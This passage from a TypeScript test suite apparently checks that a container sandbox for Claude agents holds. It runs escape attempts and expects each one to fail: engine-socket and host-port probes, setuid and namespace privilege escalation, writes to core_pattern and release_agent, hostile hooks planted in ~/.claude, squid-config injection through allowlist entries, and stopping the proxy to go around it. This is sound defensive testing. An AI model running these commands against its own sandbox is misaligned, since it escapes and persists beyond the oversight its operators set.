        'ls -la /run/podman/podman.sock /var/run/docker.sock /run/docker.sock /run/user/*/podman/podman.sock 2>&1; echo "DOCKER_HOST=${DOCKER_HOST:-} CONTAINER_HOST=${CONTAINER_HOST:-}"; for sock in $(find / -xdev -type s 2>/dev/null; find /run /tmp /var -type s 2>/dev/null); do out=$(curl -sf --max-time 2 --unix-socket "$sock" http://engine/_ping) && [ "$out" = OK ] && echo "answered $sock"; done',
      );
      expect(r.stdout, 'ESCAPE: an engine socket answered').not.toMatch(/answered|OK/);
      expect(r.stdout).toMatch(/DOCKER_HOST= CONTAINER_HOST=$/m);
    });

    it("reaches the engine's TCP API on the host", async () => {
      const r = await agent(s, s.a, `for port in 2375 2376 8080; do timeout 3 bash -c "exec 3<>/dev/tcp/${s.gateway}/$port" && echo open $port; done; curl -s --max-time 5 -o /dev/null -w '%{http_code}' http://${s.gateway}:2375/_ping`);
      expect(r.stdout).not.toMatch(/open|^200/m);
    });

    it('becomes root with sudo, su or a setuid binary', async () => {
      const r = await agent(s, s.a, 'sudo -n id -u 2>/dev/null; su -c "id -u" root </dev/null 2>/dev/null; for f in $(find / -xdev -perm -4000 -type f 2>/dev/null); do echo "setuid $f"; done; cp /bin/sh /tmp/sh && chmod u+s /tmp/sh; /tmp/sh -c "id -u"; id -u');
      expect(r.stdout.trim().split('\n').filter((l) => l.trim() === '0'), `ESCAPE: the agent became root (${r.stdout})`).toEqual([]);
    });

    it('holds or gains any capability (no-new-privileges, empty sets)', async () => {
      const r = await agent(s, s.a, "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status");
      expect(r.stdout).toMatch(/CapPrm:\s+0{16}/);
      expect(r.stdout).toMatch(/CapEff:\s+0{16}/);
      expect(r.stdout).toMatch(/CapBnd:\s+0{16}/);
      expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
      expect(r.stdout).toMatch(/Seccomp:\s+2/);
    });

    it('uses a new user namespace to act as root on real files or the network', async () => {
      const r = await agent(s, s.a, 'unshare -r -n bash -c "id -u; touch /etc/pwned && echo wrote-etc; ip link set lo up; exec 3<>/dev/tcp/192.0.2.1/443 && echo connected"; ls /etc/pwned 2>/dev/null && echo exists');
      expect(r.stdout).not.toMatch(/wrote-etc|connected|exists/);
    });

    it('changes the read-only image', async () => {
      const r = await agent(s, s.a, 'echo evil > /usr/local/bin/claude && echo wrote; echo evil >> /etc/passwd && echo wrote; touch /usr/bin/x && echo wrote');
      expect(r.stdout).not.toContain('wrote');
    });

    it("writes kernel settings, the cgroup's release agent or raw devices", async () => {
      const r = await agent(
        s,
        s.a,
        'echo "|/tmp/x" > /proc/sys/kernel/core_pattern && echo core; echo c > /proc/sysrq-trigger && echo sysrq; echo /tmp/x > /sys/fs/cgroup/release_agent && echo release; mknod /tmp/sda b 8 0 && echo mknod; ls /dev | grep -E "^(sd|nvme|vd|xvd|mem|kmem)" && echo devices; cat /dev/mem >/dev/null 2>&1 && echo mem',
      );
      expect(r.stdout.trim(), `ESCAPE: ${r.stdout}`).toBe('');
    });

    it("sees the host's processes, or the proxy's", async () => {
      const r = await agent(s, s.a, 'ps -e -o comm=');
      expect(r.stdout, 'ESCAPE: host or proxy processes are visible').not.toMatch(/^(node|vitest|dockerd|podman|conmon|containerd|squid|systemd)$/m);
    });

    it("persists a change to ~/.claude and ~/.claude.json on the host", async () => {
      await agent(s, s.a, 'echo "{\\"hooks\\":{\\"SessionStart\\":[{\\"hooks\\":[{\\"type\\":\\"command\\",\\"command\\":\\"evil\\"}]}]}}" > ~/.claude/settings.json; echo "{\\"mcpServers\\":{\\"x\\":{\\"command\\":\\"evil\\"}}}" > ~/.claude.json');
      for (const rel of ['.claude/settings.json', '.claude.json']) {
        const path = join(s.p.dir, 'home', rel);
        expect(await readFile(path, 'utf8'), `ESCAPE: ~/${rel} changed on the host`).toBe(s.hostFiles.get(path));
      }
    });

    it("reads another session's workspace, volumes or paude's data", async () => {
      const r = await agent(s, s.a, `ls /var/lib/containers /var/lib/docker ${s.p.dataDir} ${join(s.p.dataDir, 'sessions')} 2>&1; ls / | tr '\\n' ' '`);
      expect(r.stdout).not.toContain(s.b);
      expect(r.stdout).not.toMatch(/overlay|volumes/);
    });
  });

  describe('policy: injection and widening', () => {
    it.each([
      ['a newline and a squid directive', 'x.test\nhttp_access allow all'],
      ['a space and a squid directive', 'x.test http_access allow all'],
      ['a comment character', 'x.test#'],
      ['an include directive', 'include /etc/passwd'],
      ['a wildcard for everything', '*'],
      ['a quote and a squid directive', 'x.test" all'],
    ])('injects squid configuration through an allowlist entry: %s', async (_what, entry) => {
      const r = await s.p.paude(['allow', entry, '--session', s.a]);
      expect(r.code, `ESCAPE: paude allow accepted ${JSON.stringify(entry)}`).not.toBe(0);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect((await curl(s, s.a, `http://blocked.test:${s.forbidden.port}/`)).status).toBe('403');
      untouched(s, 'an injected allowlist entry');
    });

    it('injects through paude.json: the configuration is refused before anything starts', async () => {
      const file = join(s.p.env.PAUDE_CONFIG_DIR ?? '', 'paude.json');
      const original = await readFile(file, 'utf8');
      const config = JSON.parse(original) as { network: { allowlist: string[] } };
      await writeFile(file, JSON.stringify({ ...config, network: { ...config.network, allowlist: ['ok.test\nhttp_access allow all'] } }));
      try {
        const r = await s.p.paude(['--shell', '--', 'true']);
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/network\.allowlist\[0\]/);
      } finally {
        await writeFile(file, original);
      }
    });

    it('the next session does not inherit what the agent wrote: refused hosts stay refused', async () => {
      const r = await s.p.paude(['--shell', '--', 'sh', '-c', `curl -s -o /dev/null -w '%{http_code}' --max-time 8 http://blocked.test:${s.forbidden.port}/`]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout.trim()).toBe('403');
      untouched(s, 'the next session');
    });
  });

  describe('the proxy itself', () => {
    it('stops its own proxy (the marker the session writes at its end), then goes around it', async () => {
      await agent(s, s.a, ': > /run/paude-link/agent-exited');
      const r = await agent(s, s.a, `sleep 3; curl -s -o /dev/null -w '%{http_code}' --max-time 5 http://blocked.test:${s.forbidden.port}/; echo; timeout 3 bash -c "exec 3<>/dev/tcp/${s.gateway}/${s.forbidden.port}" && echo connected`);
      expect(r.stdout).not.toMatch(/^200|connected/m);
      untouched(s, 'a stopped proxy');
    });
  });
});

/** Sends one request straight to the session's proxy port and returns the status of the answer ('000': none). */
async function raw(s: Suite, session: string, method: string, target: string): Promise<string> {
  const host = method === 'CONNECT' ? target : new URL(target).host;
  const r = await agent(s, session, `exec 3<>/dev/tcp/127.0.0.1/3128; printf '${method} ${target} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 8 head -1 <&3`);
  return /^HTTP\/1\.[01] (\d{3})/.exec(r.stdout)?.[1] ?? '000';
}

/**
 * A script that looks for a secret in every file and in every process's environment and command
 * line, and prints the matching files and then the count of matching process lines ("0" when
 * none). The secret is split in the script and joined only in bash's memory, and grep reads it
 * from a descriptor: its own command line and the script's do not contain it.
 */
function search(secret: string): string {
  const half = Math.floor(secret.length / 2);
  return [
    `a='${secret.slice(0, half)}'; b='${secret.slice(half)}'`,
    'grep -rIlF --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -f /dev/fd/3 / 3<<<"$a$b" 2>/dev/null',
    `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -cF -f /dev/fd/3 3<<<"$a$b"`,
  ].join('; ');
}

/** A protected path that did not exist: paude moves it out of the repository as soon as it appears. */
async function waitAbsent(s: Suite, rel: string): Promise<void> {
  const deadline = Date.now() + 5000;
  for (;;) {
    const present = await readdir(join(s.p.ws, rel, '..')).then((names) => names.includes(rel.split('/').at(-1) ?? ''));
    if (!present) return;
    if (Date.now() > deadline) throw new Error(`ESCAPE: ${rel} stayed in the repository on the host`);
    await new Promise((r) => setTimeout(r, 100));
  }
}
